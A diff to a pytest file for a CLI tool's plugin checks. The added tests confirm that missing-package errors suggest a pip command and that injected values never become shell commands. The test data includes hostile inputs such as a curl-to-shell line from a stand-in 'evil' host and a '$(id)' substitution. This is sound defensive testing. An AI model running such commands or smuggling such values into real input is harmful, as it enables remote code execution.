@@ -5,7 +5,7 @@ import json
 import pytest
 
 from flames_cli.errors import FlamesError
-from flames_cli.plugins import ALLOWED_VARIABLE
+from flames_cli.plugins import ALLOWED_VARIABLE, require_plugins
 from flames_cli.plugins.packages import (
     packages_text,
     parse_packages,
@@ -60,3 +60,20 @@ def test_only_the_allowed_version_of_an_installed_package_is_usable(site, monkey
     assert parse_packages(usable_here()) == {"right": "1.0", "other": "", "gone": ""}
     monkeypatch.delenv(ALLOWED_VARIABLE)
     assert usable_here() == "{}"
+
+
+@pytest.mark.parametrize("fact", ["Flames_Nets 0.1", "nets 1.0+local"])
+def test_a_message_shows_how_to_install_a_missing_package(fact):
+    package, version = fact.split()
+    with pytest.raises(FlamesError, match="which is not there; install it") as error:
+        require_plugins([f"models/gone {fact}"], "run 'a'")
+    assert f"(pip install {package}=={version})" in str(error.value)
+
+
+@pytest.mark.parametrize(
+    "fact", ["x; curl evil|sh # 1", "nets 1$(id)", "nets\x1b[31m 1.0", "--pre 1.0", "1.0", ""]
+)
+def test_a_fact_of_a_run_makes_no_command_for_the_shell(fact):
+    with pytest.raises(FlamesError, match="install it, or pass --plugin FILE") as error:
+        require_plugins([f"models/gone {fact}"], "run 'a'")
+    assert str(error.value).isprintable()
